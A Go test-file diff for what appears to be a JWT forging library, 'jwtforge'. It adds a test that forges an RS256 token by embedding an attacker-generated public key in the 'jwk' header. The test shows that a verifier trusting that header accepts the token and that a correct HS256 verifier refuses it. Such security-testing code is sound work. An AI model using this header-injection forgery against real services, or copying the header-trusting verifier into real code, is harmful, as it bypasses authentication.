@@ -1,6 +1,9 @@
 package jwtforge
 
 import (
+	"crypto/rand"
+	"crypto/rsa"
+	"math/big"
 	"strings"
 	"testing"
 	"time"
@@ -106,4 +109,28 @@ func TestParseRejectsMalformed(t *testing.T) {
 		_, err := Parse(raw)
 		assert.Error(t, err, raw)
 	}
+}
+
+func TestSignRS256VerifiesWithTheEmbeddedJWK(t *testing.T) {
+	priv, err := rsa.GenerateKey(rand.Reader, 2048)
+	require.NoError(t, err)
+	tok, err := Parse(issue(t))
+	require.NoError(t, err)
+	jwk := PublicJWK(&priv.PublicKey, "attacker")
+	raw, err := SignRS256(WithHeader(tok, map[string]any{"jwk": jwk, "kid": "attacker"}), priv)
+	require.NoError(t, err)
+
+	back, err := Parse(raw)
+	require.NoError(t, err)
+	assert.Equal(t, "RS256", back.Header["alg"])
+	assert.Equal(t, "user-1", back.Claims["sub"])
+	// A verifier that trusts the header's key (the flaw) accepts it...
+	embedded := back.Header["jwk"].(map[string]any)
+	n, err := enc.DecodeString(embedded["n"].(string))
+	require.NoError(t, err)
+	pub := &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: 65537}
+	_, err = jwt.Parse(raw, func(*jwt.Token) (any, error) { return pub, nil }, jwt.WithValidMethods([]string{"RS256"}))
+	assert.NoError(t, err, "signature verifies with the key in the header")
+	// ...and a correct HS256 verifier refuses it.
+	assert.Error(t, verify(raw, key))
 }
